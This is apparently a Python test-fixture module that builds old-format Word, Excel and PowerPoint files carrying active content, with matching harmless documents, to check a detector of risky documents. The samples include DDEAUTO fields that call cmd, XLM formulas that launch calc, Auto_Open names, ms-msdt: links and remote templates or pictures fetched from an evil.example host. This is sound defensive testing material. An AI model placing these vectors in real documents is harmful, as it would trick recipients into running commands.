"""Documents of the old Office that act, and ordinary ones."""

from __future__ import annotations

import struct

import vba
from ole_documents import atom, container, excel, powerpoint, wide, word

VBA = vba.project()


def associated(template: str) -> bytes:
    return struct.pack("<3H", 0xFFFF, 18, 0) + struct.pack("<2H", 0, len(template)) + wide(template) + bytes(32)


def formula(tokens: bytes) -> tuple[int, bytes]:
    return 0x06, bytes(20) + struct.pack("<H", len(tokens)) + tokens


def name(flags: int, text: bytes, tokens: bytes = b"\x1e\1\0") -> tuple[int, bytes]:
    return 0x18, struct.pack("<H2B2H", flags, 0, len(text), len(tokens), 0) + bytes(6) + b"\0" + text + tokens


def hyperlink(url: str) -> tuple[int, bytes]:
    moniker = (
        bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + struct.pack("<I", len(wide(url)) + 2) + wide(url) + b"\0\0"
    )
    return 0x1B8, bytes(24) + struct.pack("<2I", 2, 3) + moniker


def listed(url: str) -> bytes:
    """Properties with the list of all links, as LibreOffice reads it."""
    section = b"_PID_HLINKS\0" + struct.pack("<2I", 0x1F, len(url) + 1) + wide(url + "\0")
    user_defined = bytes.fromhex("05d5cdd59c2e1b10939708002b2cf9ae")
    return (
        b"\xfe\xff" + bytes(22) + struct.pack("<I", 1) + user_defined + struct.pack("<2I", 48, len(section)) + section
    )


DDE = "text that stays\r\x13 DDEAUTO c:\\\\cmd \x14shown\x15\r"


NAME_TABLE = struct.pack("<2I", 16, len(DDE)) + b"\x13\x2e"


THREATS: dict[str, tuple[bytes, set[str], bytes]] = {
    "Word macros": (word(**{f"Macros/{key}": data for key, data in VBA.items()}), {"macro"}, b"Macros"),
    "Word DDE": (word(DDE), {"dde"}, b"DDEAUTO"),
    "Word DDE over two pieces": (word(DDE, cut=20), {"dde"}, b"TO c:"),
    "Word DDE by the table of fields": (word("text that stays\r\x13 PAGE \x141\x15", tables={16: NAME_TABLE}), {"action"}, b"\x13\x2e"),
    "Word picture from elsewhere": (word('text that stays\x13 INCLUDEPICTURE "https://evil.example" \x14\x15'), {"remote-image"}, b"evil"),
    "Word link": (word('text that stays\x13 HYPERLINK "ms-msdt:x" \x14shown\x15'), {"hyperlink"}, b"msdt"),
    "Word template": (word(tables={32: associated("https://evil.example/t.dot")}), {"remote-template"}, b"evil"),
    "Word commands": (word(tables={24: b"\xff\x03evil"}), {"custom-ui"}, b"evil"),
    "Word object": (word(**{"ObjectPool/_1/\x01Ole10Native": b"evil.exe"}), {"embedded-object"}, b"evil"),
    "Excel macros": (excel((0xD3, b""), **{f"_VBA_PROJECT_CUR/{key}": data for key, data in VBA.items()}), {"macro"}, b"_VBA"),
    "Excel macro sheet": (excel(cells=(formula(b"\x17\4\0calc\x42\1\x6e\0"),), kind=1), {"xlm"}, b"calc"),
    "Excel automatic name": (excel(name(0x20, b"\x01")), {"xlm"}, b"\0\x20\0\0\1"),
    "Excel automatic name in letters": (excel(name(0, b"Auto_Open1")), {"xlm"}, b"Auto_Open"),
    "Excel name that acts": (excel(name(0, b"x", b"\x17\4\0calc\x42\1\x6e\0")), {"xlm"}, b"calc"),
    "Excel call": (excel(cells=(formula(b"\x17\4\0calc\x42\3\x96\0"),)), {"macro"}, b"calc"),
    "Excel DDE": (excel((0x1AE, struct.pack("<2HB", 1, 8, 0) + b"cmd\x03/c x"), (0x23, struct.pack("<H4x2B", 0x7FF2, 1, 0) + b"a" + bytes(9))), {"dde"}, b"cmd"),
    "Excel book elsewhere": (excel((0x1AE, struct.pack("<2HB", 1, 11, 0) + b"\x01\x01@evil\x03a.x")), {"external-relationship"}, b"evil"),
    "Excel link": (excel(cells=(hyperlink("ms-msdt:x"), (0x3C, b"more"))), {"hyperlink"}, wide("msdt")),
    "Excel link by formula": (excel(cells=(formula(b"\x17\x09\0ms-msdt:x\x42\1\x67\1"),)), {"hyperlink"}, b"msdt"),
    "Excel link by formula and cell": (excel(cells=(formula(b"\x24evil\x42\1\x67\1"),)), {"hyperlink"}, b"evil"),
    "Word link behind a switch": (word('text that stays\x13 HYPERLINK \\o "x" "ms-msdt:x" \x14shown\x15'), {"hyperlink"}, b"msdt"),
    "Excel object": (excel(**{"MBD00000001/\x01Ole10Native": b"evil.exe"}), {"embedded-object"}, b"evil"),
    "Excel control": (excel(Ctls=b"evil"), {"activex"}, b"evil"),
    "PowerPoint macros": (powerpoint(container(0x3FF, atom(0x400, struct.pack("<3I", 5, 1, 2))), atom(0x1011, b"evil")), {"embedded-object", "macro"}, b"evil"),
    "PowerPoint object": (powerpoint(container(0x409, container(0xFCC, atom(0xFBA, wide("evil")))), atom(0xBC1, b"\7\0\0\0")), {"embedded-object"}, wide("evil")),
    "PowerPoint control": (powerpoint(container(0xFEE, atom(0xFBA, wide("evil")))), {"activex"}, wide("evil")),
    "PowerPoint program": (powerpoint(container(0xFF2, atom(0xFF3, bytes(8) + b"\2" + bytes(7)), atom(0xFBA, wide("evil")))), {"launch", "macro"}, wide("evil")),
    "PowerPoint link": (powerpoint(container(0x409, container(0xFD7, atom(0xFBA, wide("ms-msdt:x"), 1)))), {"hyperlink"}, wide("msdt")),
    "PowerPoint link by its name": (powerpoint(container(0x409, container(0xFD7, atom(0xFBA, wide("ms-msdt:x")), atom(0xFBA, b"", 1)))), {"hyperlink"}, wide("msdt")),
    "PowerPoint link by the list": (powerpoint(properties=listed("ms-msdt:x")), {"hyperlink"}, b"_PID_HLINKS"),
    "PowerPoint film": (powerpoint(container(0x409, container(0x1005, atom(0xFBA, wide("\\\\evil\\x"))))), {"external-relationship"}, wide("evil")),
}  # fmt: skip


ORDINARY = {
    "Word": word(tables={32: associated("Normal.dot"), 24: b"\xff\x40"}),
    "Word with fields": word(
        'text that stays\x13 HYPERLINK "https://example.com/"\x01 \x14shown\x15\x13 IF \x13 PAGE \x141\x15 = 1 "a" \x14a\x15'
    ),
    "Excel": excel(
        name(0x20, b"\x06"),
        cells=(
            formula(b"\x1e\1\0\x1e\2\0\3"),
            formula(b"\x17\x0a\0https://a/\x42\1\x67\1"),
            hyperlink("https://example.com/"),
        ),
    ),
    "Excel with another book": excel((0x1AE, struct.pack("<2HB", 1, 12, 0) + b"\x01\x01C\x03dir\x03a.xls")),
    "PowerPoint": powerpoint(
        container(0x3FF, atom(0x400, struct.pack("<3I", 0, 0, 1))),
        container(0xFF2, atom(0xFF3, bytes(8) + b"\4" + bytes(7))),
        container(
            0x409,
            container(0xFD7, atom(0xFBA, wide("Agenda: all")), atom(0xFBA, wide("https://example.com/"), 1)),
            container(0xFD7, atom(0xFBA, wide("Slide: 2")), atom(0xFBA, wide("257,2,Slide: 2"), 3)),
        ),
        properties=listed("https://example.com/" + "a" * 60),
    ),
}
